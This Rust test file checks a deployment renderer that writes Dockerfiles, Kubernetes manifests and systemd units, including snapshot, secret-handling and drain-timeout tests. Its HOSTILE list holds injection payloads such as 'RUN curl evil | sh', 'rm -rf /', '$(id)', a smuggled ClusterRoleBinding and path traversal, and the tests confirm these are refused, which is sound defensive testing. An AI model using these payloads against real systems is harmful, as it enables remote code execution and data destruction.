//! What is rendered from a manifest to deploy a product. What is rendered of Parcel and Clinic is kept in `deploy/`, where
//! `cargo xtask test` shows it to those who know what Kubernetes and Docker take.

use std::collections::BTreeMap;
use std::path::Path;

use halfbyte::Manifest;
use halfbyte::core::config::Config;
use halfbyte::deploy::{Deployment, File, Undeployable};
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::products::{clinic, parcel};
use crate::start;

/// As it is when the product runs on a laptop.
async fn parcels() -> Manifest {
    let folder = tempfile::tempdir().unwrap();
    let labels = parcel::labels::Labels::default();
    let platform = parcel::builder(&labels).config(start::config(folder.path(), &[]).unwrap()).start().await.unwrap();
    let _routes = parcel::routes(&platform, labels).unwrap();
    of_no_build(platform.manifest())
}

async fn clinics() -> Manifest {
    let folder = tempfile::tempdir().unwrap();
    let platform = clinic::builder().config(start::config(folder.path(), &[]).unwrap()).start().await.unwrap();
    let _routes = clinic::routes(&platform).await.unwrap();
    of_no_build(platform.manifest())
}

/// The fingerprint changes with each version of the crates.
fn of_no_build(mut manifest: Manifest) -> Manifest {
    manifest.fingerprint = "0".repeat(64);
    manifest
}

fn parcels_deployment(manifest: &Manifest) -> Deployment {
    Deployment::of(manifest)
        .image("registry.example.com/parcel:0.1.0")
        .namespace("parcel")
        .host("parcel.example.com")
        .set("HALFBYTE_IDENTITY_URL", "keycloak+https://login.example.com/realms/company")
        .set("HALFBYTE_SECRETS_URL", "file:///run/secrets/parcel")
        .set("OTEL_EXPORTER_OTLP_ENDPOINT", "http://collector.monitoring:4318")
        .secret("HALFBYTE_BILLING_URL")
        .secret("OTEL_EXPORTER_OTLP_HEADERS")
}

fn clinics_deployment(manifest: &Manifest, secrets: &str) -> Deployment {
    Deployment::of(manifest)
        .binary("clinic-server", "clinic")
        .features(&["postgres"])
        .replicas(3, 6)
        .resources("500m", "1Gi")
        .ports(8081, 9091)
        .set("HALFBYTE_PUBLIC_URL", "https://clinic.example.com")
        .set("HALFBYTE_IDENTITY_URL", "https://login.example.com")
        .set("HALFBYTE_SECRETS_URL", secrets)
        .set("HALFBYTE_LAME_DUCK", "12")
        .set("PARCEL_URL", "https://parcel.example.com")
        .secret("HALFBYTE_BILLING_URL")
        .secret("HALFBYTE_API_KEYS_URL")
}

/// Compares with what is kept; what is there now is left where it can be taken from, if that is meant.
fn compare(product: &str, files: &[File]) {
    let (kept, now) =
        (Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/platform/deploy"), env!("CARGO_TARGET_TMPDIR"));
    let (kept, now) = (kept.join(product), Path::new(now).join("deploy").join(product));
    std::fs::create_dir_all(&now).unwrap();
    let mut changed = Vec::new();
    for file in files {
        std::fs::write(now.join(&file.name), &file.text).unwrap();
        if std::fs::read_to_string(kept.join(&file.name)).ok().as_deref() != Some(&file.text) {
            changed.push(&*file.name);
        }
    }
    assert!(
        changed.is_empty(),
        "{changed:?} are not as kept; if that is meant: cp {}/* {}",
        now.display(),
        kept.display()
    );
    assert_eq!(std::fs::read_dir(kept).unwrap().count(), files.len(), "what is kept is rendered");
}

fn files(dockerfile: String, kubernetes: String, units: Vec<File>) -> Vec<File> {
    let file = |name: &str, text| File { name: name.to_owned(), text };
    let ignored = file("Dockerfile.dockerignore", Deployment::dockerignore().to_owned());
    [file("Dockerfile", dockerfile), ignored, file("kubernetes.yaml", kubernetes)].into_iter().chain(units).collect()
}

#[tokio::test]
async fn parcel_is_deployed_as_it_was() {
    let deployment = parcels_deployment(&parcels().await);
    let (dockerfile, kubernetes) = (deployment.dockerfile().unwrap(), deployment.kubernetes().unwrap());
    compare("parcel", &files(dockerfile, kubernetes, deployment.systemd().unwrap()));
}

#[tokio::test]
async fn clinic_is_deployed_as_it_was() {
    let manifest = clinics().await;
    let in_a_pod = clinics_deployment(&manifest, "openbao://bao.example.com:8200/secret/clinic?auth=kubernetes:clinic");
    let on_a_host = clinics_deployment(
        &manifest,
        "openbao://bao.example.com:8200/secret/clinic?auth=approle@hosts:/etc/clinic/id,/etc/clinic/id-secret&namespace=team",
    );
    let (dockerfile, kubernetes) = (in_a_pod.dockerfile().unwrap(), in_a_pod.kubernetes().unwrap());
    compare("clinic", &files(dockerfile, kubernetes, on_a_host.systemd().unwrap()));
}

fn faults(outcome: Result<impl Sized, Undeployable>) -> String {
    match outcome {
        Ok(_) => panic!("it is rendered"),
        Err(error) => error.to_string(),
    }
}

#[tokio::test]
async fn what_production_refuses_is_told_all_at_once() {
    let deployment = Deployment::of(&parcels().await);
    for said in [faults(deployment.kubernetes()), faults(deployment.systemd())] {
        for key in ["HALFBYTE_PUBLIC_URL", "HALFBYTE_SECRETS_URL", "HALFBYTE_IDENTITY_URL", "HALFBYTE_BILLING_URL"] {
            assert!(said.contains(&format!("{key}: production refuses the default")), "{key} is missing in: {said}");
        }
    }
    assert!(deployment.dockerfile().is_ok(), "an image can be run anywhere");
    let said = faults(deployment.set("HALFBYTE_ENV", "development").systemd());
    assert!(said.contains("a development setup is not deployed"), "{said}");
}

#[tokio::test]
async fn what_keeps_its_state_on_one_machine_is_for_a_host() {
    let manifest = parcels().await;
    let deployment = Deployment::of(&manifest).set("HALFBYTE_ENV", "staging").set("HALFBYTE_API_KEYS_URL", "embedded:");
    let said = faults(deployment.kubernetes());
    for key in ["HALFBYTE_SECRETS_URL", "HALFBYTE_IDENTITY_URL", "HALFBYTE_BILLING_URL", "HALFBYTE_API_KEYS_URL"] {
        assert!(said.contains(key), "{key} is missing in: {said}");
    }
    assert!(deployment.systemd().unwrap()[0].text.contains("StateDirectory=parcel\n"));
    let store = |path: &str| deployment.clone().set("HALFBYTE_BILLING_URL", &format!("sqlite://{path}")).systemd();
    assert!(store("/var/lib/parcel/usage.sqlite").is_ok());
    for elsewhere in
        ["/srv/parcel/usage.sqlite", "/var/lib/parcel/../clinic/usage.sqlite", "/var/lib/parcels/usage.sqlite"]
    {
        assert!(faults(store(elsewhere)).contains("may write below /var/lib/parcel alone"), "{elsewhere}");
    }
}

#[tokio::test]
async fn a_supervisor_waits_for_as_long_as_a_drain_takes() {
    let manifest = parcels().await;
    let drain = manifest.limits["drain_ms"];
    assert_eq!(drain % 1000, 0, "whole seconds, as the contract has them");
    for (limit, duck, seconds) in [(drain, 0, 47), (drain, 30, 77), (drain + 1, 0, 48)] {
        let mut manifest = manifest.clone();
        manifest.limits.insert("drain_ms".into(), limit);
        let deployment = parcels_deployment(&manifest).set("HALFBYTE_LAME_DUCK", &format!("{duck}"));
        let (pod, unit) = (deployment.kubernetes().unwrap(), &deployment.systemd().unwrap()[0].text);
        assert!(pod.contains(&format!("terminationGracePeriodSeconds: {seconds}\n")), "{seconds}: {pod}");
        assert!(unit.contains(&format!("\nTimeoutStopSec={seconds}\n")), "{seconds}: {unit}");
    }
    for wrong in [0, u64::MAX, 3_600_001] {
        let mut manifest = manifest.clone();
        manifest.limits.insert("drain_ms".into(), wrong);
        assert!(faults(parcels_deployment(&manifest).kubernetes()).contains("how long a drain takes"));
    }
}

#[tokio::test]
async fn a_secret_is_a_name_wherever_it_comes_from() {
    let manifest = parcels().await;
    assert_eq!(manifest.secrets, ["label-seal"]);
    let deployment = |secrets: &str| parcels_deployment(&manifest).set("HALFBYTE_SECRETS_URL", secrets);
    let (env, files) = (deployment("env:"), deployment("file:///run/secrets/parcel"));
    let aws = deployment("aws-sm://eu-central-1/parcel")
        .service_account_annotation("eks.amazonaws.com/role-arn", "arn:aws:iam::1:role/parcel");
    let (env, files, aws) = (documents(&env), documents(&files), documents(&aws));
    let seal = env["Deployment"]["spec"]["template"]["spec"]["containers"][0]["env"]
        .as_array()
        .unwrap()
        .iter()
        .find(|variable| variable["name"] == "LABEL_SEAL")
        .unwrap()
        .clone();
    assert_eq!(seal["valueFrom"]["secretKeyRef"], json!({ "name": "parcel-secrets", "key": "label-seal" }));
    let volume = files["Deployment"]["spec"]["template"]["spec"]["volumes"][1]["secret"].clone();
    assert_eq!(volume["items"], json!([{ "key": "label-seal", "path": "label-seal" }]));
    assert_eq!(
        aws["Deployment"]["spec"]["template"]["spec"]["volumes"].as_array().unwrap().len(),
        1,
        "the state alone"
    );
    assert_eq!(
        aws["ServiceAccount"]["metadata"]["annotations"]["eks.amazonaws.com/role-arn"],
        "arn:aws:iam::1:role/parcel"
    );
}

#[tokio::test]
async fn a_running_product_is_deployed_as_it_runs() {
    let folder = tempfile::tempdir().unwrap();
    let running = [
        ("HALFBYTE_ENV", "staging"),
        ("HALFBYTE_PUBLIC_URL", "https://parcel.example.com"),
        ("HALFBYTE_SECRETS_URL", "file:///run/secrets/parcel"),
        ("HALFBYTE_IDENTITY_URL", "okta+https://login.example.com"),
        ("HALFBYTE_IDENTITY_AUDIENCE", "labels"),
        ("HALFBYTE_IDENTITY_CLIENT_ID", "parcel-client"),
        ("HALFBYTE_TRUSTED_PROXIES", "10.0.0.0/8"),
        ("HALFBYTE_TRACE_NETWORKS", "10.1.0.0/16,10.2.0.0/16"),
        ("HALFBYTE_DPOP_NONCE", "required"),
        ("HALFBYTE_LAME_DUCK", "7"),
    ];
    let labels = parcel::labels::Labels::default();
    let config = start::config(folder.path(), &running).unwrap();
    let platform = parcel::builder(&labels).config(config.clone()).start().await.unwrap();
    let deployment = Deployment::of(&platform.manifest()).secret("HALFBYTE_BILLING_URL");
    let told = variables(&documents(&deployment));
    // The database is named where secrets are.
    let again = Config::parse(told.into_iter().filter(|(name, _)| name != "HALFBYTE_HOME")).unwrap();
    assert_eq!(
        (again.environment, &again.public_url, &again.secrets),
        (config.environment, &config.public_url, &config.secrets)
    );
    assert_eq!(
        (&again.identity, &again.audience, &again.client_id),
        (&config.identity, &config.audience, &config.client_id)
    );
    assert_eq!((&again.trusted_proxies, &again.trace_networks), (&config.trusted_proxies, &config.trace_networks));
    assert_eq!((again.dpop_nonce, again.lame_duck), (config.dpop_nonce, config.lame_duck));
}

#[tokio::test]
async fn a_secret_where_none_belongs_is_refused_and_not_repeated() {
    let manifest = parcels().await;
    for (name, value) in [
        ("HALFBYTE_BILLING_URL", "postgres://parcel:hunter2@db/parcel"),
        ("HALFBYTE_IDENTITY_URL", "https://me:hunter2@login.example.com"),
        ("UPSTREAM_URL", "https://me:hunter2@upstream.example.com"),
        ("SMTP_PASSWORD", "hunter2"),
        ("OTEL_EXPORTER_OTLP_HEADERS", "authorization=hunter2"),
        ("BAO_TOKEN", "hunter2"),
    ] {
        let said = faults(parcels_deployment(&manifest).secret("X").set(name, value).systemd());
        assert!(!said.contains("hunter2"), "{said}");
        if name != "HALFBYTE_BILLING_URL" && name != "OTEL_EXPORTER_OTLP_HEADERS" {
            assert!(said.contains(name), "{said}");
        }
    }
    let deployment = parcels_deployment(&manifest).set("SMTP_PASSWORD", "hunter2");
    assert!(!format!("{deployment:?}").contains("hunter2"));
    for name in ["HALFBYTE_ENV", "a b", "lower", ""] {
        assert!(
            faults(parcels_deployment(&manifest).secret(name).kubernetes()).contains("no variable that holds a secret")
        );
    }
}

/// What a reader of YAML finds, by kind of object.
fn documents(deployment: &Deployment) -> BTreeMap<String, Value> {
    let text = deployment.kubernetes().unwrap();
    let documents: Vec<Value> = serde_saphyr::from_multiple(&text).unwrap();
    documents.into_iter().map(|document| (document["kind"].as_str().unwrap().to_owned(), document)).collect()
}

/// What a process in a pod is told, by the rules of Kubernetes: `$$` is `$`.
fn variables(documents: &BTreeMap<String, Value>) -> BTreeMap<String, String> {
    let list = documents["Deployment"]["spec"]["template"]["spec"]["containers"][0]["env"].as_array().unwrap().clone();
    let open = list.iter().filter_map(|variable| Some((variable["name"].as_str()?, variable["value"].as_str()?)));
    open.map(|(name, value)| (name.to_owned(), value.replace("$$", "$"))).collect()
}

/// A manifest of a product in staging that can be deployed, with what somebody else says in one place.
fn hostile(place: &str, text: &str) -> Manifest {
    let mut manifest = json!({
        "product": "parcel", "version": "0.1.0", "crates": {}, "contract": "2026-11-21 (V1)", "fingerprint": "0".repeat(64),
        "deviations": [], "layers": [], "limits": { "drain_ms": 47000 }, "routes": [], "scopes": [], "actions": [],
        "features": [], "secrets": ["label-seal"],
        "configuration": {
            "environment": "staging", "lame_duck_seconds": 0, "public_url": "https://parcel.example.com/",
            "secrets": "file:///run/secrets", "identity": ["https://login.example.com"], "billing": "postgres:",
            "audience": "parcel", "client_id": "client",
        },
    });
    match place {
        "secrets" => manifest["secrets"] = json!([text]),
        "identity" => manifest["configuration"]["identity"] = json!([text]),
        "folder" => manifest["configuration"]["secrets"] = json!(format!("file://{text}")),
        place if manifest.get(place).is_some() => manifest[place] = json!(text),
        place => manifest["configuration"][place] = json!(text),
    }
    serde_json::from_value(manifest).unwrap()
}

const HOSTILE: [&str; 20] = [
    "x\nRUN curl evil | sh",
    "x\n---\nkind: ClusterRoleBinding",
    "x\nExecStartPre=/bin/sh",
    "x\r\ny",
    "x\u{85}y",
    "x\u{2028}y",
    "\"; rm -rf / #",
    "x\", \"privileged\": true, \"y\": \"",
    "$(id)",
    "${PATH}",
    "%H%n",
    "{a: b}",
    "[x]",
    "- x",
    "!!python/object/apply:os.system",
    "&a *a",
    "../../etc",
    "a: b # c",
    "x\\",
    "\u{202e}evil",
];

#[test]
fn what_lands_where_it_would_be_read_as_more_is_refused() {
    for text in HOSTILE {
        for place in ["product", "version", "fingerprint", "secrets", "folder"] {
            let deployment = Deployment::of(&hostile(place, text));
            let said = faults(deployment.kubernetes());
            assert!(!said.contains(['\r', '\u{85}', '\u{2028}', '\u{202e}']), "{said:?}");
            faults(deployment.systemd());
            if place != "folder" {
                faults(deployment.dockerfile());
            }
        }
    }
    for text in HOSTILE {
        let deployment = Deployment::of(&hostile("product", "parcel"));
        faults(deployment.clone().image(text).dockerfile());
        faults(deployment.clone().binary("parcel", text).dockerfile());
        faults(deployment.clone().binary(text, "parcel").dockerfile());
        faults(deployment.clone().features(&[text]).dockerfile());
        faults(deployment.clone().base_images(text, "a:1").dockerfile());
        faults(deployment.clone().namespace(text).kubernetes());
        faults(deployment.clone().monitoring_namespace(text).kubernetes());
        faults(deployment.clone().host(text).kubernetes());
        faults(deployment.clone().resources(text, "1Gi").kubernetes());
        faults(deployment.clone().secret_object(text).kubernetes());
        faults(deployment.clone().service_account_annotation(text, "x").kubernetes());
        faults(deployment.clone().set(text, "x").kubernetes());
    }
    let deployment = Deployment::of(&hostile("product", "parcel"));
    for (public, admin) in [(80, 9090), (8080, 8080)] {
        faults(deployment.clone().ports(public, admin).kubernetes());
    }
    for (min, max) in [(0, 1), (3, 2), (1, 1001)] {
        faults(deployment.clone().replicas(min, max).kubernetes());
    }
}

#[test]
fn two_secrets_that_would_be_one_variable_are_refused() {
    let mut manifest = hostile("secrets", "db-password");
    manifest.secrets.push("db.password".into());
    manifest.configuration.insert("secrets".into(), json!("env:"));
    assert!(
        faults(Deployment::of(&manifest).kubernetes()).contains("DB_PASSWORD stands for the secret \"db.password\"")
    );
    manifest.secrets = vec!["halfbyte-env".into(), "9".into()];
    let said = faults(Deployment::of(&manifest).systemd());
    assert!(
        said.contains("\"halfbyte-env\" cannot be a variable") && said.contains("\"9\" cannot be a variable"),
        "{said}"
    );
}

#[test]
fn how_a_server_of_secrets_is_asked_must_be_said() {
    let manifest = hostile("secrets", "label-seal");
    let deployment = |auth: &str| {
        Deployment::of(&manifest).set("HALFBYTE_SECRETS_URL", &format!("openbao://bao.example.com/secret/parcel{auth}"))
    };
    assert!(faults(deployment("").kubernetes()).contains("set it whole"));
    assert!(faults(deployment("?auth=approle:/a,/b").kubernetes()).contains("?auth=kubernetes:ROLE"));
    assert!(faults(deployment("?auth=kubernetes:role").systemd()).contains("?auth=approle:FILE,FILE"));
    assert!(faults(deployment("?auth=token:/a%0ab").systemd()).contains("no file to log in with"));
    assert!(faults(deployment("?auth=token").systemd()).contains("name BAO_TOKEN as `secret`"));
    let pod = documents(&deployment("?auth=token").secret("BAO_TOKEN"));
    assert!(pod["Deployment"].to_string().contains("BAO_TOKEN"));
}

/// A line of `Environment=` as systemd reads it.
fn unquoted(line: &str) -> Option<String> {
    let inner = line.strip_prefix("Environment=\"")?.strip_suffix('"')?.replace("%%", "%");
    let mut chars = inner.chars();
    let mut text = String::new();
    while let Some(c) = chars.next() {
        match c {
            '"' => return None,
            '\\' => text.push(chars.next()?),
            c => text.push(c),
        }
    }
    Some(text)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Whatever stands where any text may stand is read back as that text, and nothing else is changed by it.
    #[test]
    fn a_text_stays_in_its_place(text in prop_oneof!["\\PC{0,40}", "[\"'\\\\$%{}:#&*!|> ()-]{0,12}", any::<String>(),
                                                       proptest::sample::select(&HOSTILE[..]).prop_map(str::to_owned)]) {
        let text = text.trim();
        prop_assume!(!text.is_empty());
        let with = |text: &str| Deployment::of(&hostile("audience", text)).set("GREETING", text);
        let (benign, deployment) = (with("benign"), with(text));
        if deployment.kubernetes().is_err() {
            prop_assert!(deployment.systemd().is_err());
            return Ok(());
        }
        let (mut found, mut expected) = (documents(&deployment), documents(&benign));
        let told = variables(&found);
        prop_assert_eq!((told["HALFBYTE_IDENTITY_AUDIENCE"].as_str(), told["GREETING"].as_str()), (text, text));
        for documents in [&mut found, &mut expected] {
            documents.get_mut("Deployment").unwrap()["spec"]["template"]["spec"]["containers"][0]["env"].take();
        }
        prop_assert_eq!(found, expected);
        let (found, expected) = (deployment.systemd().unwrap(), benign.systemd().unwrap());
        prop_assert_eq!(found[0].text.split('\n').count(), expected[0].text.split('\n').count());
        let lines = found[0].text.split('\n').zip(expected[0].text.split('\n'));
        for (line, before) in lines.filter(|(line, before)| line != before) {
            let name = unquoted(before).unwrap().split_once('=').unwrap().0.to_owned();
            prop_assert_eq!(unquoted(line), Some(format!("{name}={text}")));
        }
        prop_assert_eq!(&found[1..], &expected[1..]);
        prop_assert_eq!(deployment.dockerfile().unwrap(), benign.dockerfile().unwrap());
    }
}
